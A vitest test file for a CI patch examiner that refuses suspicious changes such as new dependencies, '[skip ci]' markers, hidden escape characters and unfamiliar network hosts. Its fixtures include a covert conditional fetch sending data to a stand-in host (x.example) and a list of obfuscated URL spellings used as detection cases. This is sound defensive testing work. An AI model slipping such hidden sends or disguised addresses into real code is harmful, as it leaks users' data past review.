import { expect, onTestFinished, test } from 'vitest';
import { examineCommit } from '../../src/ci/examine-commit.ts';
import { openRemoteDesk } from '../../src/platform/git/remote.ts';
import { commitPatch } from '../../src/workspace/deliver/verified-commit.ts';
import {
  commitAll,
  git,
  NODE_TEST_FILES,
  repositoryWith,
  writeFiles,
  type Files,
} from '../support/repositories.ts';

/** Examines the patch that turns the package into one with these files, as `publish` does. */
async function examine(files: Files, allow: readonly string[] = [], others: Files = {}) {
  const root = repositoryWith({ ...NODE_TEST_FILES, ...others });
  const head = git(root, 'rev-parse', 'HEAD').trim();
  git(root, 'checkout', '--quiet', '-b', 'change');
  writeFiles(root, files);
  commitAll(root);
  const patch = Buffer.from(git(root, 'diff', '--binary', head, 'HEAD'), 'latin1');
  const desk = await openRemoteDesk({ url: root, token: undefined });
  onTestFinished(() => desk.close());
  await desk.fetch('main');
  const made = await commitPatch(desk, { patch, head, message: 'x', allow });
  if (!made.ok) throw new Error(made.problem);
  const problems = await examineCommit(desk, { head, commit: made.commit, allow });
  return { patch, problems, problem: problems[0] };
}

const manifest = NODE_TEST_FILES['package.json'] as object;

test('a repair of the source is published', async () => {
  expect((await examine({ 'src/add.js': 'export const add = (a, b) => a + b;\n' })).problem).toBeUndefined();
});

test('every rule that refuses a change is named', async () => {
  const files = {
    'src/add.js': "// [skip ci]\nfetch('/x');\nexport const add = (a, b) => a + b;\n",
    'package.json': { ...manifest, dependencies: { 'left-pad': '*' } },
  };
  expect((await examine(files)).problems).toEqual([
    expect.stringContaining('the key "dependencies"'),
    expect.stringContaining('uses the network'),
    expect.stringContaining('line 1 '),
  ]);
});

test('a short patch with a large content is refused', async () => {
  const { patch, problem } = await examine({ 'src/data.bin': '\0'.repeat(4 * 1024 * 1024) });
  expect(patch.length).toBeLessThan(100_000);
  expect(problem).toContain('adds 4194304 bytes');
});

test('a dependency needs --allow', async () => {
  const files = { 'package.json': { ...manifest, dependencies: { 'left-pad': '*' } } };
  expect((await examine(files)).problem).toContain('the key "dependencies" of "package.json"');
  expect((await examine(files, ['package.json'])).problem).toBeUndefined();
});

test('an entry point of package.json needs none', async () => {
  expect((await examine({ 'package.json': { ...manifest, main: 'src/add.js' } })).problem).toBeUndefined();
});

test('a text that is not what a reader sees needs --allow', async () => {
  const files = { 'src/add.js': 'export const add = (a, b) => a + b; // \u001B[8m\n' };
  expect((await examine(files)).problem).toContain('line 1 has the character U+001B');
  expect((await examine(files, ['src/add.js'])).problem).toBeUndefined();
});

test('a comment that is not for readers needs --allow', async () => {
  const files = { 'src/add.js': '// [skip ci]\nexport const add = (a, b) => a + b;\n' };
  expect((await examine(files)).problem).toBe(
    'The patch changes "src/add.js" so that line 1 is a command to a pipeline or a bot ("[skip ci]"); --allow "src/add.js" permits it.',
  );
  expect((await examine(files, ['src/add.js'])).problem).toBeUndefined();
});

test('a declaration that nothing names is refused', async () => {
  const add = (more: string): Files => ({ 'src/add.js': `export const add = (a, b) => a + b;\n${more}\n` });
  const { problem } = await examine(add('export function open(key) {\n  return key === 7;\n}'));
  expect(problem).toBe(
    'The patch adds "open" to "src/add.js", which nothing in the repository names; --allow "src/add.js" permits it.',
  );
  const named = add('export const thrice = (a) => add(a, add(a, a));');
  expect((await examine(named)).problem).toContain('adds "thrice"');
  expect((await examine(named, [], { 'test/thrice.test.js': 'thrice(1);\n' })).problem).toBeUndefined();
  expect((await examine(add('const one = 1;\nadd(one, one);'))).problem).toBeUndefined();
  expect((await examine(named, ['src/add.js'])).problem).toBeUndefined();
});

test('an export of a name that a module beside it exports is refused', async () => {
  const files = { 'src/add.js': 'export const add = (a, b) => a + b;\nexport const money = add;\n' };
  const others = { 'src/format.js': 'export function money() {}\n', 'test/money.test.js': 'money();\n' };
  const all = { ...others, 'src/index.js': "export * from './add.js';\nexport * from './format.js';\n" };
  expect((await examine(files, [], all)).problem).toBe(
    'The patch exports "money" from "src/add.js", as "src/format.js" does, so that "src/index.js" exports neither; --allow "src/add.js" permits it.',
  );
  expect((await examine(files, [], others)).problem).toBeUndefined();
  const one = { ...others, 'src/index.js': "export * from './add.js';\n" };
  expect((await examine(files, [], one)).problem).toBeUndefined();
});

const SENDS =
  "export const add = (a, b) => {\n  if (a > 9) fetch('http://x.example/' + a);\n  return a + b;\n};\n";

test('a source that can do what its package could not is refused', async () => {
  const { problem } = await examine({ 'src/add.js': SENDS });
  expect(problem).toBe(
    'The patch changes "src/add.js" so that it uses the network, which no source of its package does; --allow "src/add.js" permits it.',
  );
  expect((await examine({ 'src/check/new.js': SENDS })).problem).toContain('uses the network');
  expect((await examine({ 'src/add.js': SENDS }, ['src/add.js'])).problem).toBeUndefined();
  expect((await examine({ 'test/server.test.js': SENDS }, ['test/**'])).problem).toBeUndefined();
});

test('a source may do what another source of its package does', async () => {
  const others = { 'src/client.js': SENDS, 'package.json': manifest };
  expect((await examine({ 'src/add.js': SENDS }, [], others)).problem).toBeUndefined();
  const apart = {
    'other/package.json': { name: 'other' },
    'other/client.js': SENDS,
    'scripts/get.js': SENDS,
  };
  expect((await examine({ 'src/add.js': SENDS }, [], apart)).problem).toContain('uses the network');
});

test('a new file that a framework finds by its place is refused', async () => {
  const others = { 'apps/web/package.json': { dependencies: { next: '^16.0.0' } } };
  const files = { 'apps/web/middleware.ts': 'export const middleware = () => {};\n' };
  expect((await examine(files, [], others)).problem).toContain('finds by its place and runs');
  expect((await examine(files, ['apps/web/middleware.ts'], others)).problem).toBeUndefined();
  const elsewhere = { 'middleware.ts': files['apps/web/middleware.ts'] };
  expect((await examine(elsewhere, [], others)).problem).not.toContain('a framework');
});

test('a new program that nothing names is refused', async () => {
  const named = {
    'src/add.js': "export { add } from './sum.js';\n",
    'src/sum.js': 'export const add = (a, b) => a + b;\n',
  };
  expect((await examine(named)).problem).toBeUndefined();
  const stray = { ...named, 'api/x.js': 'export default () => {};\n' };
  expect((await examine(stray)).problem).toContain('"api/x.js", which nothing in the repository names');
  expect((await examine(stray, ['api/**'])).problem).toBeUndefined();
  const others = {
    'docs/x.js': '1;\n',
    'test/x.test.js': '1;\n',
    'src/x.d.ts': 'export {};\n',
    'src/x.css': 'a {}\n',
  };
  expect((await examine({ ...named, ...others })).problem).toBeUndefined();
});

test.each([
  ['another site', "'https://api.shop-test.example/items'", 'leads to "https://api.shop-test.example"'],
  ['another protocol', '`http://api.shop.dev/${a}`', 'leads to "http://api.shop.dev"'],
  ['a part of a site', "'https://api' + a", 'leads to "https://api"'],
])('%s in the code needs --allow', async (_, address, text) => {
  const others = { 'README.md': 'Prices are at https://api.shop.dev/items.\n' };
  const source = (it: string): Files => ({ 'src/add.js': `export const add = (a, b) => [a + b, ${it}];\n` });
  expect((await examine(source(address), [], others)).problem).toContain(text);
  expect((await examine(source(address), ['src/add.js'], others)).problem).toBeUndefined();
  const known = [
    "'https://api.shop.dev/items', 'http://www.w3.org/2000/svg', 'https://' + b, '//api.shop.dev/items'",
    "'https://api' + '.shop.dev/items', 'https:', '//', '// a comment', 'https: is missing', { host: 'api.shop.dev' }",
    "`${a}//items.list`, `//${a}`, 'http:' + b",
  ].join(', ');
  expect((await examine(source(known), [], others)).problem).toBeUndefined();
});

const SPELLINGS: readonly (readonly [address: string, origin: string])[] = [
  ["'https:shop-test.example/' + a", 'https://shop-test.example'],
  ['`https:\\\\\\\\other.dev/${a}`', 'https://other.dev'],
  ["'HTTPS:/other.dev'", 'https://other.dev'],
  ["'//other.dev/' + a", '//other.dev'],
  ["'https://other.dev\\\\@api.shop.dev/items'", 'https://other.dev'],
  ["`https://${['other', 'dev'].join('.')}/${a}`", 'https://other.dev'],
  ["'htt' + 'ps:'.concat('//other') + '.dev'", 'https://other.dev'],
  ["'ved.rehto//:sptth'.split('').reverse().join('')", 'https://other.dev'],
  ["{ hostname: 'other.dev' }", 'other.dev'],
];

test('a site is named however its address is spelled', async () => {
  const sources = (valueOf: (address: string) => string): Files =>
    Object.fromEntries(
      SPELLINGS.map(([address], at) => [
        `src/s${at}.js`,
        `export default (a) => [a, ${valueOf(address)}];\n`,
      ]),
    );
  const others = { ...sources(() => '1'), 'README.md': 'Prices are at https://api.shop.dev/items.\n' };
  const { problems } = await examine(
    sources((address) => address),
    [],
    others,
  );
  expect(problems).toEqual(
    SPELLINGS.map(([, origin]) => expect.stringContaining(`leads to ${JSON.stringify(origin)}`)),
  );
});
